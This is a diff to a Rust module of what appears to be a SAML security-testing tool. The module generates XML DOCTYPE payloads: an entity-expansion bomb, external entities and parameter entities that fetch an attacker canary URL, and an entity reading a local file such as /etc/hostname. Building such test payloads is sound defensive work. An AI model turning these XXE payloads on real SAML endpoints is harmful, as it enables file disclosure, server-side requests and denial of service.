@@ -12,10 +12,12 @@ use serde::{Deserialize, Serialize};
 pub enum DtdForm {
     /// Nested entities that expand to gigabytes, and a reference to the last of them.
     Bomb,
-    /// An external entity with a file behind it, and a reference to it.
+    /// An external entity, which is to be fetched, and a reference to it.
     ExternalEntity,
     /// An external subset, which is to be fetched.
     ExternalSubset,
+    /// An external entity with a file behind it, and a reference to it.
+    File,
     /// A parameter entity, which is to be fetched.
     ParameterEntity,
     /// An entity in the place of the ID of the Response.
@@ -36,16 +38,22 @@ impl DtdForm {
     pub(super) fn sentence(self) -> &'static str {
         match self {
             Self::Bomb => "a DOCTYPE declares entities that expand to gigabytes",
-            Self::ExternalEntity => "a DOCTYPE declares an entity with a file behind it",
+            Self::ExternalEntity => "a DOCTYPE declares an external entity",
             Self::ExternalSubset => "a DOCTYPE has an external subset",
+            Self::File => "a DOCTYPE declares an entity with a file behind it",
             Self::ParameterEntity => "a DOCTYPE declares an external parameter entity",
             Self::EntityInId => "the ID of the Response is an entity that a DOCTYPE declares",
         }
     }
 
+    /// Whether the Status refers to what is declared.
+    pub(super) fn is_in_status(self) -> bool {
+        matches!(self, Self::Bomb | Self::ExternalEntity | Self::File)
+    }
+
     /// What stands behind the name of the root element. Nothing that it names is outside of the machine.
-    fn declaration(self, id: &str) -> String {
-        const NOWHERE: &str = "http://127.0.0.1:9/";
+    fn declaration(self, id: &str, attacker: &Attacker<'_>) -> String {
+        let (canary, file) = (attacker.canary, attacker.file);
         match self {
             Self::Bomb => {
                 let levels = (1..=9).map(|level| {
@@ -54,10 +62,11 @@ impl DtdForm {
                 });
                 format!(r#"[<!ENTITY e0 "x">{}]"#, levels.collect::<String>())
             }
-            Self::ExternalEntity => r#"[<!ENTITY e9 SYSTEM "file:///etc/hostname">]"#.to_owned(),
-            Self::ExternalSubset => format!(r#"SYSTEM "{NOWHERE}response.dtd""#),
+            Self::ExternalEntity => format!(r#"[<!ENTITY e9 SYSTEM "{canary}">]"#),
+            Self::ExternalSubset => format!(r#"SYSTEM "{canary}""#),
+            Self::File => format!(r#"[<!ENTITY e9 SYSTEM "{file}">]"#),
             Self::ParameterEntity => {
-                format!(r#"[<!ENTITY % external SYSTEM "{NOWHERE}parameter.dtd"> %external;]"#)
+                format!(r#"[<!ENTITY % external SYSTEM "{canary}"> %external;]"#)
             }
             Self::EntityInId => format!(r#"[<!ENTITY id "{id}">]"#),
         }
@@ -65,19 +74,23 @@ impl DtdForm {
 }
 
 /// A DOCTYPE in front of the root element, and a reference to what it declares.
-pub(super) fn dtd(document: &Document<'_>, form: DtdForm) -> Result<String, WireError> {
+pub(super) fn dtd(
+    document: &Document<'_>,
+    attacker: &Attacker<'_>,
+    form: DtdForm,
+) -> Result<String, WireError> {
     let tree = &document.tree;
     let name = tree.sibling_name(document.response, "Response");
     let id = tree.attribute(document.response, "ID").unwrap_or_default();
-    let declaration = form.declaration(&document.xml[id.clone()]);
+    let declaration = form.declaration(&document.xml[id.clone()], attacker);
     let mut edits = Edits::default();
     edits.insert(tree.range(document.response).start, format!("<!DOCTYPE {name} {declaration}>"));
     match form {
-        DtdForm::Bomb | DtdForm::ExternalEntity => {
+        DtdForm::Bomb | DtdForm::ExternalEntity | DtdForm::File => {
             let message = tree.sibling_name(document.response, "StatusMessage");
-            let status = super::wrap::status(document)?;
+            let status = super::place::status(document)?;
             let text = format!("<{message}>&e9;</{message}>");
-            super::wrap::append(document, &mut edits, status, &text);
+            super::place::append(document, &mut edits, status, &text);
         }
         DtdForm::EntityInId => edits.replace(id, "&id;"),
         DtdForm::ExternalSubset | DtdForm::ParameterEntity => {}
